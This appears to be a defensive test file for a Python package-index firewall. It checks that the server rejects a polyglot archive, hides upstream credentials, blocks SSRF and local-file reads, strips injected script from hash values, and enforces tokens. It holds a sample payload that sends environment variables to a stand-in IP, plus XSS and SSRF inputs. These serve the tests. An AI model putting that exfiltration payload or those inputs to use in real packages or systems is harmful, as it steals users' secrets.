"""A hostile upstream and hostile clients against a real server: each way around it is closed.

The numbers refer to the security review's list (docs/security.md has the table).
"""

from __future__ import annotations

import hashlib
import http.server
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from tests.builders import build_sdist, build_wheel
from tests.fake_upstream import FakeUpstream
from tests.server.serverproc import ServerProcess, pip_install

pytestmark = pytest.mark.slow
OLD = datetime.now(UTC) - timedelta(days=60)
JSON = {"Accept": "application/vnd.pypi.simple.v1+json"}
PAYLOAD = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://203.0.113.9/c', data=repr(dict(os.environ)).encode())\n"
)


@pytest.fixture
def upstream(tmp_path: Path) -> Iterator[FakeUpstream]:
    fake = FakeUpstream(tmp_path / "up")
    fake.start()
    yield fake
    fake.stop()


def _url(server: ServerProcess, project: str, entry: dict[str, str]) -> str:
    return str(httpx.URL(server.index + f"{project}/").join(entry["url"]))


def _files(server: ServerProcess, project: str) -> list[dict[str, str]]:
    files: list[dict[str, str]] = httpx.get(server.index + f"{project}/", headers=JSON).json()[
        "files"
    ]
    return files


def test_1_one_file_under_two_names_gets_no_clean_verdict(
    upstream: FakeUpstream, tmp_path: Path
) -> None:
    """A gzip'd tar that is also a zip: refused as .tar.gz and as .whl, whichever comes first."""
    sdist = build_sdist(tmp_path, "poly", "1.0", {"poly/__init__.py": "X = 1\n"})
    wheel = build_wheel(tmp_path, "poly", "1.0", {"poly/__init__.py": PAYLOAD})
    both = sdist.read_bytes() + wheel.read_bytes()
    upstream.add_file("poly", "1.0", "poly-1.0.tar.gz", both, uploaded=OLD)
    upstream.add_file("poly", "1.0", "poly-1.0-py3-none-any.whl", both, uploaded=OLD)
    server = ServerProcess(upstream.url, tmp_path / "data", env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
    try:
        entries = {e["filename"]: e for e in _files(server, "poly")}
        first = httpx.get(_url(server, "poly", entries["poly-1.0.tar.gz"]), timeout=60)
        assert first.status_code == 403, first.text
        second = httpx.get(_url(server, "poly", entries["poly-1.0-py3-none-any.whl"]), timeout=60)
        assert second.status_code == 403, second.text
        done = pip_install(server.index, tmp_path / "t", "poly")
        assert done.returncode != 0
        assert not (tmp_path / "t" / "poly").exists()
    finally:
        server.stop()


def test_4_upstream_credentials_never_leave_the_server(
    upstream: FakeUpstream, tmp_path: Path
) -> None:
    upstream.add_release("credpkg", "1.0", uploaded=OLD, sdist=False)
    secret_upstream = upstream.url.replace("http://", "http://mirror-user:s3cr3t-pass@")
    server = ServerProcess(secret_upstream, tmp_path / "data", env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
    try:
        upstream.fail_next(500, 500, 500, 500, 500, 500)
        failed = httpx.get(server.index + "otherpkg/", headers=JSON)
        assert failed.status_code == 502
        ok = _files(server, "credpkg")
        upstream.fail_next(0, 0, 0, 0)  # the file download fails on the wire
        refused = httpx.get(_url(server, "credpkg", ok[0]), timeout=60)
        assert refused.status_code in (502, 503)
        for response in (failed, refused):
            assert "s3cr3t-pass" not in response.text
            assert "s3cr3t-pass" not in response.reason_phrase
            assert "mirror-user" not in response.text
        assert "s3cr3t-pass" not in server.output()
        assert "***@127.0.0.1" in server.output()  # the banner names the upstream, masked
    finally:
        server.stop()


class _Internal(http.server.BaseHTTPRequestHandler):
    """A host inside the network that the firewall must never be made to reach."""

    hits: list[str] = []  # noqa: RUF012 - shared on purpose: the test reads it

    def do_GET(self) -> None:
        self.hits.append(self.path)
        body = b"internal secret"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


def test_5_file_urls_stay_on_the_upstream_origin(upstream: FakeUpstream, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0\n")
    internal = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Internal)
    thread = threading.Thread(target=internal.serve_forever, daemon=True)
    thread.start()
    _Internal.hits.clear()
    local = upstream.add_release("localread", "1.0", uploaded=OLD, sdist=False)[0]
    upstream.relink(local.filename, secret.as_uri())
    # The published sha256 is the real one of the local file: a wrong one used to be
    # answered with the real digest (an oracle for what the firewall can read).
    upstream.tamper(local.filename, hashlib.sha256(secret.read_bytes()).hexdigest())
    ssrf = upstream.add_release("ssrf", "1.0", uploaded=OLD, sdist=False)[0]
    port = internal.server_address[1]
    upstream.relink(ssrf.filename, f"http://127.0.0.1:{port}/admin/{ssrf.filename}")
    server = ServerProcess(upstream.url, tmp_path / "data", env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
    try:
        for project in ("localread", "ssrf"):
            entry = _files(server, project)[0]
            refused = httpx.get(_url(server, project, entry), timeout=60)
            assert refused.status_code in (502, 403), refused.text
            assert "root:x" not in refused.text
            assert "outside its own origin" in refused.text
        assert _Internal.hits == []
        assert not list((tmp_path / "data" / "store" / "blobs").rglob("*"))
    finally:
        server.stop()
        internal.shutdown()
        internal.server_close()


def test_6_hostile_hash_values_never_reach_the_page(upstream: FakeUpstream, tmp_path: Path) -> None:
    item = upstream.add_release("xsspkg", "1.0", uploaded=OLD, sdist=False)[0]
    upstream.tamper(item.filename, '"><script>alert(1)</script>')
    server = ServerProcess(upstream.url, tmp_path / "data", env={"PYCUSTOMS_SERVE_PRESCAN": "0"})
    try:
        html = httpx.get(server.index + "xsspkg/").text
        assert "<script>" not in html
        assert "alert(1)" not in html
        assert _files(server, "xsspkg") == []  # no valid sha256: cannot be verified, not served
    finally:
        server.stop()


def test_7_required_tokens_cover_the_root_and_blocked_pages(
    upstream: FakeUpstream, tmp_path: Path
) -> None:
    server = ServerProcess(
        upstream.url, tmp_path / "data", env={"PYCUSTOMS_SERVE_REQUIRE_TOKENS": "1"}
    )
    try:
        assert httpx.get(server.index).status_code == 401
        blocked = httpx.get(server.url + "/blocked/names-typosquat/reqeusts/" + "0" * 64 + "/x.whl")
        assert blocked.status_code == 401
        assert not upstream.requests_to("/simple/reqeusts")  # nothing asked on its behalf
        assert httpx.get(server.url + "/-/health").status_code == 200
    finally:
        server.stop()
